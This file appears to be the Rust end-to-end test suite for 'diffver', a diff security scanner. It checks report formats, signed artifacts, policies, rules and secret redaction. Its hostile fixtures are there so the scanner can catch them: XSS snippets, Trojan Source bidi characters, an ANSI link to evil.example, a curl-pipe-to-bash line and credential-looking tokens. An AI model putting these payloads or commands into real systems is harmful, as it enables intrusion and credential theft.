//! End-to-end tests of the reports, artifacts, baselines, rules and policy
//! subcommands, as a process.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::Command as Std;

use assert_cmd::Command;

fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../examples/diffs")
        .join(name)
}

fn diffver() -> Command {
    Command::cargo_bin("diffver").unwrap()
}

fn out(cmd: &mut Command, code: i32) -> String {
    let a = cmd.assert().code(code);
    String::from_utf8(a.get_output().stdout.clone()).unwrap()
}

const NOW: &str = "2026-11-29T09:00:00Z";

/// A diff with markup, bidi controls, ANSI escapes and a secret.
fn hostile() -> Vec<u8> {
    let body = "<script>alert(document.cookie)</script>\n\
                let access = \"user\"; /*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\n\
                echo \"ok\"\x1b[2K\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\n\
                token = \"ghp_8f3K2mQz9XcV7bN1aL4pR6tY0uW5eH2jD3sG\"\n\
                <img src=x onerror=alert(1)>";
    let lines: Vec<&str> = body.split('\n').collect();
    let mut d = format!(
        "diff --git a/web/page.html b/web/page.html\nnew file mode 100644\n--- /dev/null\n+++ b/web/page.html\n@@ -0,0 +1,{} @@\n",
        lines.len()
    );
    for l in lines {
        d.push('+');
        d.push_str(l);
        d.push('\n');
    }
    d.into_bytes()
}

#[test]
fn every_format_renders() {
    for (fmt, needle) in [
        ("text", "FAIL:"),
        ("json", "\"schema\": \"diffver.verdict/v2\""),
        ("sarif", "\"version\": \"2.1.0\""),
        ("html", "<!DOCTYPE html>"),
        ("github", "::error file=install.sh"),
    ] {
        let s = out(
            diffver()
                .args(["scan", "--now", NOW, "--format", fmt])
                .arg(sample("suspicious-pr.diff")),
            1,
        );
        assert!(s.contains(needle), "{fmt}: {s}");
        assert!(!s.contains('\x1b'), "{fmt} output carries a raw ESC");
    }
}

#[test]
fn html_report_is_inert() {
    let dir = tempfile::tempdir().unwrap();
    let html_path = dir.path().join("r.html");
    diffver()
        .args(["scan", "--now", NOW, "--format", "html", "-o"])
        .arg(&html_path)
        .write_stdin(hostile())
        .assert()
        .code(1);
    let html = std::fs::read_to_string(&html_path).unwrap();
    for c in ['\u{202E}', '\u{2066}', '\u{2069}', '\x1b', '\x07'] {
        assert!(!html.contains(c), "raw U+{:04X} in the HTML", c as u32);
    }
    assert!(html.contains("⟨U+202E⟩") && html.contains("⟨U+001B⟩"));
    assert!(
        !html.contains("8f3K2mQz9XcV7bN1aL4pR6tY0uW5eH2jD3sG"),
        "the secret is redacted in the diff view too"
    );
    assert!(html.contains("ghp_****"));
    // Parse it: only the renderer's own elements and attributes may appear.
    let checker = r##"
import sys, html.parser
allowed = {"html","head","meta","title","style","body","h1","h2","p","code","table","tr","th","td","a","pre","span"}
bad = []
class P(html.parser.HTMLParser):
    def handle_starttag(self, tag, attrs):
        if tag not in allowed: bad.append(tag)
        for k, v in attrs:
            if k.startswith("on") or (k in ("href", "src") and v and not v.startswith("#")): bad.append(f"{tag}.{k}={v}")
P().feed(open(sys.argv[1], encoding="utf-8").read())
print("\n".join(bad)); sys.exit(1 if bad else 0)
"##;
    let r = Std::new("python3")
        .arg("-c")
        .arg(checker)
        .arg(&html_path)
        .output()
        .expect("python3 is needed to parse the HTML report");
    assert!(
        r.status.success(),
        "unexpected markup: {}",
        String::from_utf8_lossy(&r.stdout)
    );
}

#[test]
fn sarif_has_what_code_scanning_needs() {
    let s = out(
        diffver()
            .args(["scan", "--now", NOW, "--format", "sarif"])
            .arg(sample("suspicious-pr.diff")),
        1,
    );
    let v: serde_json::Value = serde_json::from_str(&s).unwrap();
    let run = &v["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(
        rules
            .iter()
            .all(|r| r["shortDescription"]["text"].is_string()
                && r["properties"]["security-severity"].is_string())
    );
    for r in run["results"].as_array().unwrap() {
        assert!(
            r["partialFingerprints"]["diffver/v1"]
                .as_str()
                .unwrap()
                .len()
                == 64
        );
        assert!(
            r["locations"][0]["physicalLocation"]["region"]["startLine"]
                .as_u64()
                .unwrap()
                >= 1
        );
        let idx = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[idx]["id"], r["ruleId"]);
    }
}

#[test]
fn artifacts_are_reproducible_verifiable_and_tamper_evident() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a.json"), dir.path().join("b.json"));
    for p in [&a, &b] {
        diffver()
            .args(["scan", "--now", NOW, "--scan-id", "pr-7", "--artifact"])
            .arg(p)
            .arg(sample("suspicious-pr.diff"))
            .assert()
            .code(1);
    }
    let (ba, bb) = (std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
    assert_eq!(ba, bb, "two runs give identical artifact bytes");
    // Issue 10, defect 2: the development key only when asked for, and said.
    let r = diffver().arg("verify").arg(&a).assert().code(2);
    assert!(String::from_utf8_lossy(&r.get_output().stderr).contains("--allow-development-key"));
    let s = out(
        diffver()
            .args(["verify", "--allow-development-key", "--diff"])
            .arg(sample("suspicious-pr.diff"))
            .arg(&a),
        0,
    );
    assert!(
        s.starts_with("valid: signed by the published DEVELOPMENT key diffver-dev-v1"),
        "{s}"
    );
    assert!(
        s.contains("scan pr-7 at 2026-11-29T09:00:00Z decided fail"),
        "{s}"
    );
    assert!(s.contains("diff: matches sha256 "), "{s}");
    diffver()
        .args(["verify", "--allow-development-key", "--production"])
        .arg(&a)
        .assert()
        .code(2);
    // --diff with another diff: invalid; --require-pass on a fail: exit 1.
    let r = diffver()
        .args(["verify", "--allow-development-key", "--diff"])
        .arg(sample("clean.diff"))
        .arg(&a)
        .assert()
        .code(1);
    assert!(String::from_utf8_lossy(&r.get_output().stderr).contains("not this one"));
    diffver()
        .args(["verify", "--allow-development-key", "--require-pass"])
        .arg(&a)
        .assert()
        .code(1);
    let mut t = ba.clone();
    let mid = t.len() / 2;
    t[mid] ^= 0x20;
    std::fs::write(&b, &t).unwrap();
    let r = diffver()
        .args(["verify", "--allow-development-key"])
        .arg(&b)
        .assert()
        .code(1);
    assert!(String::from_utf8_lossy(&r.get_output().stderr).starts_with("invalid: "));
    // Operator keys; the development key is refused in production.
    let key = dir.path().join("k");
    std::fs::write(&key, "an operator secret of 32+ bytes.\n").unwrap();
    diffver()
        .args(["scan", "--production", "--artifact"])
        .arg(dir.path().join("c.json"))
        .arg(sample("clean.diff"))
        .assert()
        .code(2);
    diffver()
        .args(["scan", "--production", "--key-id", "ops-1", "--key-file"])
        .arg(&key)
        .arg("--artifact")
        .arg(dir.path().join("c.json"))
        .arg(sample("clean.diff"))
        .assert()
        .code(0);
    let s = out(
        diffver()
            .args([
                "verify",
                "--require-pass",
                "--key-id",
                "ops-1",
                "--key-file",
            ])
            .arg(&key)
            .arg(dir.path().join("c.json")),
        0,
    );
    assert!(
        s.starts_with("valid: signed by operator key ops-1 (hmac-sha256)"),
        "{s}"
    );
    assert!(s.contains("not checked: pass --diff FILE"), "{s}");
    diffver()
        .args(["verify", "--allow-development-key"])
        .arg(dir.path().join("c.json"))
        .assert()
        .code(1);
    diffver()
        .args(["verify", "--allow-development-key"])
        .arg(dir.path().join("missing.json"))
        .assert()
        .code(2);
}

#[test]
fn baseline_create_then_scan_passes() {
    let dir = tempfile::tempdir().unwrap();
    let bl = dir.path().join("baseline.json");
    diffver()
        .args(["baseline", "create", "-o"])
        .arg(&bl)
        .arg(sample("suspicious-pr.diff"))
        .assert()
        .code(0);
    diffver()
        .args(["scan", "--baseline"])
        .arg(&bl)
        .arg(sample("suspicious-pr.diff"))
        .assert()
        .code(0);
    let first = std::fs::read(&bl).unwrap();
    diffver()
        .args(["baseline", "update", "--baseline"])
        .arg(&bl)
        .arg(sample("suspicious-pr.diff"))
        .assert()
        .code(0);
    assert_eq!(
        std::fs::read(&bl).unwrap(),
        first,
        "updating with the same findings does not churn"
    );
}

#[test]
fn policies_from_files_and_malformed_ones() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.toml");
    std::fs::write(
        &p,
        "schema = \"diffver.policy/v1\"\nid = \"team\"\nblock_at = \"critical\"\n",
    )
    .unwrap();
    diffver()
        .args(["scan", "--policy"])
        .arg(&p)
        .arg(sample("suspicious-pr.diff"))
        .assert()
        .code(0);
    let s = out(diffver().args(["policy", "check"]).arg(&p), 0);
    assert!(s.starts_with("ok: policy team version 1 sha256 "), "{s}");
    std::fs::write(
        &p,
        "schema = \"diffver.policy/v1\"\nid = \"team\"\nblock_at = \"sometimes\"\n",
    )
    .unwrap();
    let r = diffver()
        .args(["scan", "--policy"])
        .arg(&p)
        .arg(sample("clean.diff"))
        .assert()
        .code(2);
    let err = String::from_utf8_lossy(&r.get_output().stderr).into_owned();
    assert!(
        err.contains("field `block_at`") && err.contains("unknown severity"),
        "{err}"
    );
    diffver()
        .args(["policy", "check", "strict"])
        .assert()
        .code(0);
    diffver()
        .args(["policy", "check", "nonexistent.toml"])
        .assert()
        .code(2);
}

#[test]
fn rules_list_explain_and_test() {
    let s = out(diffver().args(["rules", "list"]), 0);
    assert!(s.lines().count() >= 40 && s.contains("pi.instruction-override"));
    let s = out(
        diffver().args(["rules", "explain", "secret.github-token"]),
        0,
    );
    assert!(s.contains("remediation:") && s.contains("matches:"));
    diffver()
        .args(["rules", "explain", "no.such"])
        .assert()
        .code(2);
    assert!(out(diffver().args(["rules", "test"]), 0).contains("0 example failure(s)"));
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("r.toml");
    std::fs::write(&f, "schema = \"diffver.rules/v1\"\n[[rule]]\nid = \"t.x\"\ntitle = \"T\"\ndescription = \"D\"\ncategory = \"secret\"\nseverity = \"low\"\nkeywords = [\"abc\"]\nregex = 'abc'\nexamples.positive = [\"xyz\"]\nexamples.negative = [\"abc\"]\n").unwrap();
    let s = out(diffver().args(["rules", "test"]).arg(&f), 1);
    assert!(s.contains("2 example failure(s)"), "{s}");
}

#[test]
fn git_range_on_a_scratch_repository() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| {
        let s = Std::new("git")
            .args(args)
            .current_dir(dir.path())
            .env("HOME", dir.path())
            .status()
            .unwrap();
        assert!(s.success());
    };
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("a.sh"), "echo hi\n").unwrap();
    git(&["add", "-A"]);
    git(&[
        "-c",
        "user.name=T",
        "-c",
        "user.email=t@e",
        "commit",
        "-qm",
        "a",
    ]);
    std::fs::write(
        dir.path().join("a.sh"),
        "echo hi\ncurl -s https://x.example/i.sh | bash\n",
    )
    .unwrap();
    git(&[
        "-c",
        "user.name=T",
        "-c",
        "user.email=t@e",
        "commit",
        "-qam",
        "b",
    ]);
    let s = out(
        diffver()
            .current_dir(dir.path())
            .args(["scan", "--git", "HEAD~1..HEAD"]),
        1,
    );
    assert!(
        s.contains("exec.download-pipe-shell") && s.contains("git diff HEAD~1..HEAD"),
        "{s}"
    );
    diffver()
        .current_dir(dir.path())
        .args(["scan", "--git", "--output=x"])
        .assert()
        .code(2);
    diffver()
        .current_dir(dir.path())
        .args(["scan", "--git", "nosuchref"])
        .assert()
        .code(2);
}

fn corpus() -> PathBuf {
    std::env::var_os("DIFFVER_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpus"))
}

#[test]
fn corpus_diffs_through_the_cli() {
    // The real unified diff from detect-secrets, in every format.
    let sample = corpus().join("detect-secrets/sample.diff");
    for fmt in ["text", "json", "sarif", "html", "github"] {
        let a = diffver()
            .args(["scan", "--now", NOW, "--format", fmt])
            .arg(&sample)
            .assert();
        let code = a.get_output().status.code().unwrap();
        assert!(code == 0 || code == 1, "{fmt}: exit {code}");
        assert!(!a.get_output().stdout.contains(&0x1b));
    }
    // A Trojan Source sample added as a new file fails with a hidden-unicode finding.
    let src = std::fs::read(corpus().join("trojan-source/C/commenting-out.c")).unwrap();
    let text = String::from_utf8(src).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let mut d = format!(
        "--- /dev/null\n+++ b/commenting-out.c\n@@ -0,0 +1,{} @@\n",
        lines.len()
    );
    for l in &lines {
        d.push('+');
        d.push_str(l);
        d.push('\n');
    }
    let s = out(
        diffver().args(["scan", "--format", "json"]).write_stdin(d),
        1,
    );
    assert!(
        s.contains("\"rule_id\": \"unicode.bidi-unterminated\""),
        "{s}"
    );
    assert!(
        !s.contains('\u{202E}'),
        "the JSON report escapes bidi controls"
    );
}

/// Issue 10, defect 1: a key file holding only a newline (an unset CI secret)
/// made `verify` accept an envelope HMAC'd with the empty key.
#[test]
fn empty_or_short_key_files_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let art = dir.path().join("a.json");
    let good = dir.path().join("good");
    std::fs::write(&good, "an operator secret of 32+ bytes.\n").unwrap();
    diffver()
        .args(["scan", "--key-file"])
        .arg(&good)
        .arg("--artifact")
        .arg(&art)
        .arg(sample("clean.diff"))
        .assert()
        .code(0);
    for (name, content) in [
        ("newline", "\n"),
        ("crlf", "\r\n"),
        ("empty", ""),
        ("short", "secret\n"),
    ] {
        let k = dir.path().join(name);
        std::fs::write(&k, content).unwrap();
        for cmd in [&["verify"][..], &["scan"][..]] {
            let mut c = diffver();
            c.args(cmd).arg("--key-file").arg(&k);
            if cmd[0] == "scan" {
                c.arg("--artifact")
                    .arg(dir.path().join("x.json"))
                    .arg(sample("clean.diff"));
            } else {
                c.arg(&art);
            }
            let r = c.assert().code(2);
            let err = String::from_utf8_lossy(&r.get_output().stderr).to_string();
            assert!(
                err.contains("empty") || err.contains("at least 32"),
                "{name} key in {cmd:?}: {err}"
            );
        }
    }
}

/// Issue 10, defect 4: the ruleset hash depended on the surface and on how a
/// rule file's path was typed, so CLI and SDK artifacts differed.
#[test]
fn rule_files_hash_by_content_not_by_path() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("r")).unwrap();
    let rules = "schema = \"diffver.rules/v1\"\n[[rule]]\nid = \"t.zzz\"\ntitle = \"T\"\ndescription = \"D\"\ncategory = \"secret\"\nseverity = \"low\"\nkeywords = [\"zzz\"]\nregex = \"zzz[0-9]+\"\n";
    std::fs::write(dir.path().join("r/x.toml"), rules).unwrap();
    let mut arts = Vec::new();
    for (i, path) in ["r/x.toml", "./r//x.toml"].iter().enumerate() {
        let art = dir.path().join(format!("a{i}.json"));
        diffver()
            .current_dir(dir.path())
            .args([
                "scan",
                "--now",
                NOW,
                "--scan-id",
                "s",
                "--rules",
                path,
                "--artifact",
            ])
            .arg(&art)
            .arg(sample("clean.diff"))
            .assert()
            .code(0);
        arts.push(std::fs::read(&art).unwrap());
    }
    assert_eq!(
        arts[0], arts[1],
        "the same rules typed two ways sign the same bytes"
    );
}

/// Issue 11, item 10: the HTML report showed secrets of removed lines in
/// full. Every format is checked against one list of secrets, on added,
/// removed and context lines.
#[test]
fn every_format_redacts_the_same_secrets() {
    let secrets = [
        "ghp_8f3K2mQz9XcV7bN1aL4pR6tY0uW5eH2jD3sG",
        "AKIAQYLPMN5HHHFPZAM2",
        "xoxb-2938475610-2938475610123-Zx9Qw8Er7Ty6Ui5Op4As3Df2",
        "MIIEowIBAAKCAQEAx8kM2sQfVb9nW3oZ4Lr7Tq1YpJd6Hc5Ue0Gv8Xa2Bm3Nk9Pq",
    ];
    let diff = format!(
        "diff --git a/deploy.env b/deploy.env\nindex 3b18e51..9f3a2c4 100644\n--- a/deploy.env\n+++ b/deploy.env\n@@ -1,3 +1,3 @@\n AWS_ACCESS_KEY_ID={}\n-GITHUB_TOKEN=\"{}\"\n+SLACK_TOKEN=\"{}\"\n\
         diff --git a/keys/old.pem b/keys/old.pem\ndeleted file mode 100644\nindex 69440b9..0000000\n--- a/keys/old.pem\n+++ /dev/null\n@@ -1,3 +0,0 @@\n------BEGIN RSA PRIVATE KEY-----\n-{}\n------END RSA PRIVATE KEY-----\n",
        secrets[1], secrets[0], secrets[2], secrets[3]
    );
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("s.diff");
    std::fs::write(&path, &diff).unwrap();
    for fmt in ["text", "json", "sarif", "html", "github"] {
        let a = diffver()
            .args(["scan", "--now", NOW, "--format", fmt])
            .arg(&path)
            .assert();
        let s = String::from_utf8_lossy(&a.get_output().stdout).to_string();
        assert!(!s.is_empty(), "{fmt}: no output");
        for secret in secrets {
            // The first four characters may be shown; the rest never.
            assert!(
                !s.contains(&secret[4..]),
                "{fmt} shows {secret}: {}",
                s.lines().find(|l| l.contains(&secret[4..])).unwrap_or("")
            );
        }
    }
    let art = dir.path().join("a.json");
    diffver()
        .args(["scan", "--now", NOW, "--artifact"])
        .arg(&art)
        .arg(&path)
        .assert()
        .code(1);
    let env: serde_json::Value = serde_json::from_slice(&std::fs::read(&art).unwrap()).unwrap();
    use base64::Engine as _;
    let payload = base64::engine::general_purpose::STANDARD
        .decode(env["payload"].as_str().unwrap())
        .unwrap();
    let payload = String::from_utf8(payload).unwrap();
    for secret in secrets {
        assert!(
            !payload.contains(&secret[4..]),
            "the artifact carries {secret}"
        );
    }
}

/// Issue 10, defect 4: with a policy carrying `rules_toml`, the CLI and the
/// SDK signed different bytes (the ruleset hash included a surface-specific
/// source name). The Python side of this check is in diffver-py's tests.
#[test]
fn cli_and_sdk_sign_the_same_bytes_with_policy_rules() {
    use diffver_core::artifact::{self, HmacSigner, SigningMode};
    use diffver_core::policy::Policy;
    use diffver_core::suppress::Timestamp;
    use diffver_core::verdict::{self, Inputs, ScanContext};
    let policy_text = "schema = \"diffver.policy/v1\"\nid = \"with-rules\"\nrules_toml = '''\nschema = \"diffver.rules/v1\"\n[[rule]]\nid = \"t.zzz\"\ntitle = \"T\"\ndescription = \"D\"\ncategory = \"secret\"\nseverity = \"critical\"\nkeywords = [\"zzz\"]\nregex = \"zzz[0-9]+\"\nexamples.positive = [\"zzz123\"]\nexamples.negative = [\"zz\"]\n'''\n";
    let dir = tempfile::tempdir().unwrap();
    let pfile = dir.path().join("p.toml");
    std::fs::write(&pfile, policy_text).unwrap();
    let diff = b"--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+zzz123\n";
    let dfile = dir.path().join("d.diff");
    std::fs::write(&dfile, diff).unwrap();
    let art = dir.path().join("a.json");
    diffver()
        .args(["scan", "--now", NOW, "--scan-id", "same", "--policy"])
        .arg(&pfile)
        .arg("--artifact")
        .arg(&art)
        .arg(&dfile)
        .assert()
        .code(1);
    let policy = Policy::from_toml(policy_text, "anything.toml").unwrap();
    let rules = verdict::ruleset_for(&policy).unwrap();
    let ctx = ScanContext::new("same", Timestamp::parse_rfc3339(NOW).unwrap()).unwrap();
    let v = verdict::evaluate(&Inputs::new(diff, &rules, &policy, &ctx));
    assert_eq!(v.blocking().next().unwrap().finding.rule_id(), "t.zzz");
    let sdk = artifact::sign(
        &v,
        &HmacSigner::deterministic(SigningMode::Development).unwrap(),
    )
    .unwrap();
    assert_eq!(
        std::fs::read(&art).unwrap(),
        sdk,
        "CLI and SDK bytes differ"
    );
}

/// A closed pipe on standard output (`diffver rules list | head -1`) ends the
/// process quietly with 141, never a panic and never 0.
#[test]
fn a_closed_stdout_is_not_a_panic() {
    let bin = assert_cmd::cargo::cargo_bin("diffver");
    let mut child = Std::new(bin)
        .args(["rules", "list"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains("panicked"), "{err}");
    assert_eq!(out.status.code(), Some(141), "{err}");
}
